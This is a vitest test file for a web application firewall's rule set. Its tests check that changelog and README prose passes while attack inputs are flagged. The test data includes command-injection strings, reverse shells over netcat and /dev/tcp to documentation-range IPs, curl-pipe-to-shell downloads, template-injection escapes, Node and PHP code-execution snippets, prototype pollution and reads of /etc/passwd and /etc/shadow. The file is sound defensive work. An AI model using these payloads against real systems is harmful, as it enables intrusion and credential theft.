import { describe, expect, it } from 'vitest';
import { inspectRequest } from '../../../lambdas/core/waf/index.ts';
import { balancedWaf, expectBlocked, expectDetected, expectNotFlaggedBy, get, json } from './helpers.ts';

/*
 * Ordinary documents (READMEs, changelogs, package descriptions) quote command lines, paths and code.
 * These specifications pin the narrowings that let such text through at sensitivity 70 while the
 * attack shape each rule was written for is still caught.
 */

const NEWS = [
  'Changes in release 3.1 (2017-07-02) [stable]',
  '',
  '** Improvements',
  '',
  'The matcher no longer rescans the buffer for every line.',
  '',
  '  grep -i no longer issues a spurious "binary file" diagnostic.',
  '  echo a | grep -e x -- prints nothing',
].join('\n');

describe('RCE-100: a chained command within the first lines of a value', () => {
  it('only challenges a command line quoted after several lines of a changelog (RCE-103, not RCE-100)', () => {
    // Prepare
    const req = json({ title: 'doc', body: NEWS });
    // Act
    const decision = inspectRequest(balancedWaf(), req);
    // Assess
    expect(decision.ruleIds).not.toContain('RCE-100');
    expect(decision.action).toBe('challenge');
  });

  it.each([
    ['a semicolon and cat of a system file', '127.0.0.1; cat /etc/passwd'],
    ['a line break and a download', 'report.pdf\nwget http://198.51.100.7/x.sh'],
    ['a blank line padded line break and id', '\n\n\nfoo\n\nid;'],
    ['a pipe to a shell on the second line', 'name\nx | sh -i'],
  ])('blocks %s at sensitivity 70', (_name, value) => {
    // Prepare
    const req = json({ host: value });
    // Act + Assess
    expectBlocked(req, 'RCE-100');
  });

  it.each([
    ['a system file read', `${NEWS}\n; cat /etc/passwd`],
    ['a ping after three junk lines', 'x\ny\nz\n; ping -c 3 203.0.113.9'],
  ])('challenges %s deep in a multi-line value at sensitivity 70 (RCE-103)', (_name, body) => {
    // Prepare
    const req = json({ title: 'doc', body });
    // Act + Assess
    expectDetected(req, 'RCE-103');
  });
});

describe('NODE-100: a Node.js module used in the same expression, not bound by a declaration', () => {
  it.each([
    ['a CommonJS import of fs', "var fs = require('fs');\nvar data = fs.readFileSync(name);"],
    ['an ES import of child_process', "import { spawn } from 'node:child_process'\nconst child = spawn(cmd, args)"],
    ['a destructured require of child_process', "const { spawn } = require('child_process')\nspawn(cmd)"],
    ['the C struct of the same name in a changelog', 'reuse an uninitialized child_process structure'],
    ['the API page of the module', 'the child_process.spawn() method spawns the child process'],
    ['the module name in markdown inline code', 'Unlike `child_process` or `cluster`, workers can share memory.'],
    ['a stack trace frame', 'Error: boom\n    at Module._load (node:internal/modules/cjs/loader:998:32)'],
  ])('allows %s', (_name, text) => {
    // Prepare
    const req = json({ title: 'doc', body: text });
    // Act + Assess
    expectNotFlaggedBy(req, 'NODE-100');
  });

  it.each([
    ['require(child_process) with a call', 'require("child_process").exec(\'whoami\')'],
    ['require(node:child_process) with a call', "require('node:child_process').execSync('id')"],
    ['require(fs) read at once', "require('fs').readFileSync('/etc/passwd')"],
    ['the module name kept in a string for a loader', 'lol=require;x="child_process";lol(x).spawn(\'id\')'],
    ['a dynamic import of child_process', "import('child_process').then(m => m.exec('id'))"],
    ['the module loader called directly', "require.main.constructor._load('child_process')"],
    ['a template literal module name', 'require(`child_process`).exec(`id`)'],
    ['the module bound and run on one line', "var cp=require('child_process');cp.exec('id')"],
  ])('blocks %s at sensitivity 70', (_name, value) => {
    // Prepare
    const req = json({ code: value });
    // Act + Assess
    expectDetected(req, 'NODE-100');
  });
});

describe('LFI-111: a value that is an absolute system path, not a sentence about one', () => {
  it.each([
    ['a search for where a file lives', '/usr/share/doc/gnupg/NEWS.gz for more information'],
    ['a note about a config file', '/etc/ssl/openssl.cnf in case you really require it'],
    ['a path, a semicolon and prose', '/etc/gitattributes; the core.attributesFile config'],
  ])('allows %s', (_name, value) => {
    // Prepare
    const req = get(`/search?q=${encodeURIComponent(value)}`);
    // Act + Assess
    expectNotFlaggedBy(req, 'LFI-111');
  });

  it.each([
    ['a bare system path', '/etc/shadow'],
    ['a system path cut with a null byte', '/etc/hosts%00.jpg'],
    ['a Windows drive path', 'c:/windows/win.ini'],
    ['a proc file with a trailing space', '/proc/self/environ '],
    ['a shell binary with flags', '/bin/sh -c id'],
  ])('blocks %s at sensitivity 70', (_name, value) => {
    // Prepare
    const req = get(`/download?file=${encodeURIComponent(value)}`);
    // Act + Assess
    expectDetected(req, 'LFI-111');
  });
});

describe('RCE-130: a shell path that is run, not one a sentence is about', () => {
  it.each([
    ['a changelog line about the default shell', '  * use /bin/sh as CONFIG_SHELL in debian/rules'],
    ['a note about a shell bug', 'FreeBSD /bin/sh does not work well with this construct'],
    ['a shell in parentheses', 'the default system shell (/bin/sh) has been changed to dash'],
    ['a shell path ending a sentence', 'stop using debconf to select the default /bin/sh.'],
  ])('allows %s', (_name, text) => {
    // Prepare
    const req = json({ title: 'doc', body: text });
    // Act + Assess
    expectNotFlaggedBy(req, 'RCE-130');
  });

  it.each([
    ['a netcat reverse shell', 'nc 198.51.100.7 4444 -e /bin/sh'],
    ['a shell chained after a value', 'x;/bin/bash'],
    ['a shell fed from a socket', '1; /bin/sh 0</tmp/f'],
    ['an interactive shell with a redirect', '|/bin/bash -i >& /dev/tcp/198.51.100.7/443 0>&1'],
  ])('blocks %s at sensitivity 70', (_name, value) => {
    // Prepare
    const req = get(`/ping?host=${encodeURIComponent(value)}`);
    // Act + Assess
    expectDetected(req, 'RCE-130');
  });
});

describe('NODE-120: Python code execution, not Python vocabulary', () => {
  it.each([
    [
      'a class with a constructor',
      'class Rectangle:\n    def __init__(self, width, height):\n        self.width = width',
    ],
    ['a package layout', 'meowpkg/\n    __init__.py\n    module.py'],
    ['a changelog naming the metadata backport', '* Hotfix: move python3-importlib-metadata from Suggests to Depends.'],
    ['a changelog naming an exception', 'Fixed `subprocess.CalledProcessError` when running lsb_release'],
  ])('allows %s', (_name, text) => {
    // Prepare
    const req = json({ title: 'doc', body: text });
    // Act + Assess
    expectNotFlaggedBy(req, 'NODE-120');
  });

  it.each([
    ['a constructor walked to its globals', "{{ cycler.__init__.__globals__.os.popen('id').read() }}"],
    ['a subprocess call', "subprocess.check_output(['id'])"],
    ['a module loaded by name', "importlib.import_module('os').system('id')"],
    ['a class walk to the subclasses', '().__class__.__bases__[0].__subclasses__()'],
  ])('blocks %s at sensitivity 70', (_name, value) => {
    // Prepare
    const req = json({ template: value });
    // Act + Assess
    expectDetected(req, 'NODE-120');
  });
});

describe('RCE-160: redirection to a sensitive place or a pipe into an interpreter', () => {
  it.each([
    ['reStructuredText badge substitutions', 'Boto3\n=====\n\n|version| |python| |license|\n\nBoto3 is an SDK.'],
    ['an option list in brackets', '# Templates\n\nOne per language:\n\n* init app --language=[csharp|java|python|py]'],
    ['a pipe before a package name with a dash', '+ add alternate dependency for ronn | ruby-ronn'],
    ['output discarded to /dev/null', 'git rev-list --stdin </dev/null used to be an error'],
  ])('does not read %s as a pipe into an interpreter', (_name, text) => {
    // Prepare
    const req = json({ title: 'doc', body: text });
    // Act
    const decision = inspectRequest(balancedWaf(), req);
    // Assess
    expect(decision.ruleIds).not.toContain('RCE-160');
  });

  it.each([
    ['a download piped into a shell', 'x`curl -s http://198.51.100.7/a | sh`'],
    ['a script piped into python', 'cat x | python'],
    ['a write into the web root', 'x > /var/www/html/s.php'],
    ['a read from a TCP socket', 'x < /dev/tcp/198.51.100.7/80'],
  ])('blocks %s at sensitivity 70', (_name, value) => {
    // Prepare
    const req = json({ host: value });
    // Act + Assess
    expectDetected(req, 'RCE-160');
  });
});

describe('RCE-110: command substitution, not a Makefile variable', () => {
  it.each([
    ['a changelog about a make variable', 'XORG_DEFAULT_OPTIONS provided $(SED)\n  enables silent rules'],
    ['a build note about $(RM)', 'use $(RM) instead of rm'],
  ])('allows %s', (_name, text) => {
    // Prepare
    const req = get(`/search?q=${encodeURIComponent(text)}`);
    // Act + Assess
    expectNotFlaggedBy(req, 'RCE-110');
  });

  it.each([
    ['a recon command alone', 'x$(id)'],
    ['an interactive shell', '$(cmd)'],
    ['cat with an empty expansion', '$(cat$())'],
    ['a tool with its argument', '$(sed -n 1p /etc/passwd)'],
  ])('blocks %s at sensitivity 70', (_name, value) => {
    // Prepare
    const req = get(`/ping?host=${encodeURIComponent(value)}`);
    // Act + Assess
    expectDetected(req, 'RCE-110');
  });
});

describe('LFI-110: a sensitive system file, not markdown inline code naming one', () => {
  it('allows a README sentence with the path in inline code', () => {
    // Prepare
    const req = json({ title: 'doc', body: 'Entries are added directly to `/etc/passwd` and `/etc/group` for speed.' });
    // Act + Assess
    expectNotFlaggedBy(req, 'LFI-110');
  });

  it.each([
    ['the path alone', '/etc/passwd'],
    ['the path in a PHP include', 'include("/etc/passwd");'],
    ['the path after a redirect', 'x;cat</etc/shadow'],
    ['a Windows system file', 'c:/windows/win.ini'],
  ])('blocks %s at sensitivity 70', (_name, value) => {
    // Prepare
    const req = json({ file: value });
    // Act + Assess
    expectDetected(req, 'LFI-110');
  });
});

describe('PHP-150: a PHP variable function call, not a prose aside about a variable', () => {
  it.each([
    ['a changelog aside with a default', '* znew now uses $TMPDIR (default /tmp) instead of always using /tmp.'],
    ['an aside with an abbreviation', 'match the remote name against $a (i.e. source side of the nickname)'],
    ['an aside crediting a person', 'refactor the settings of $docdir (Mattia Rizzolo)'],
  ])('allows %s', (_name, text) => {
    // Prepare
    const req = json({ title: 'doc', body: text });
    // Act + Assess
    expectNotFlaggedBy(req, 'PHP-150');
  });

  it.each([
    ['a variable called with a number', '$a(1)'],
    ['a variable with padding and a comment', "$_ab_4c[5]['d'] /*lol*/ (17)"],
    ['a variable called with a string', '$f ("system")'],
    ['a variable called with a nested call', '$f (base64_decode($_POST[1]))'],
  ])('blocks %s at sensitivity 70', (_name, value) => {
    // Prepare
    const req = json({ code: value });
    // Act + Assess
    expectDetected(req, 'PHP-150');
  });
});

describe('PHP-170: a padded PHP call, not a changelog line that goes on in parentheses', () => {
  it.each([
    [
      'a closes reference on the next line',
      '* fix debuginfo section duplicates a section in the main ELF file\n    (Closes: #942614)',
    ],
    ['an aside on the next line', '* add a Meson build system\n  (dbus-python!20; Simon McVittie)'],
  ])('allows %s', (_name, text) => {
    // Prepare
    const req = json({ title: 'doc', body: text });
    // Act + Assess
    expectNotFlaggedBy(req, 'PHP-170');
  });

  it.each([
    ['a comment before the parenthesis', 'exec/*comment*/()'],
    ['a line comment and a line break', 'exec #comment\r\n (blah)'],
    ['a tab before the parenthesis', "system\t('id')"],
  ])('blocks %s at sensitivity 70', (_name, value) => {
    // Prepare
    const req = json({ code: value });
    // Act + Assess
    expectDetected(req, 'PHP-170');
  });
});

describe('NODE-110: prototype pollution, not __proto__ named in inline code', () => {
  it('allows a changelog entry about __proto__ in backticks', () => {
    // Prepare
    const req = json({
      title: 'doc',
      body: 'Fix a bug where an object literal with multiple `__proto__` properties was accepted',
    });
    // Act + Assess
    expectNotFlaggedBy(req, 'NODE-110');
  });

  it.each([
    ['a JSON key', '{"__proto__":{"isAdmin":true}}'],
    ['a bracket path', '__proto__[isAdmin]=1'],
    ['a constructor prototype walk', 'constructor.prototype.isAdmin'],
  ])('blocks %s at sensitivity 70', (_name, value) => {
    // Prepare
    const req = json({ data: value });
    // Act + Assess
    expectDetected(req, 'NODE-110');
  });
});

describe('RCE-100: an interpreter followed by a version number is a release name', () => {
  it.each([
    ['a Python release in a changelog', '* When using Python 2, version 2.7 is now required.\n* python 3.4 or later'],
    ['a Bash release in a README', 'Differences from bash\nbash 5 is the reference for this module'],
    ['a minimum Perl version', 'tools to build groff:\n  perl >= v5.6.1 (see macro)'],
  ])('allows %s', (_name, text) => {
    // Prepare
    const req = json({ title: 'doc', body: text });
    // Act + Assess
    expectNotFlaggedBy(req, 'RCE-100');
  });

  it.each([
    ['bash reading from a socket descriptor', 'x|bash 5<>/dev/tcp/198.51.100.7/80'],
    ['perl running a dropped script', 'x;perl 1.pl'],
    ['python with a flag', 'x;python3 -c "import os"'],
  ])('blocks %s at sensitivity 70', (_name, value) => {
    // Prepare
    const req = json({ host: value });
    // Act + Assess
    expectDetected(req, 'RCE-100');
  });
});
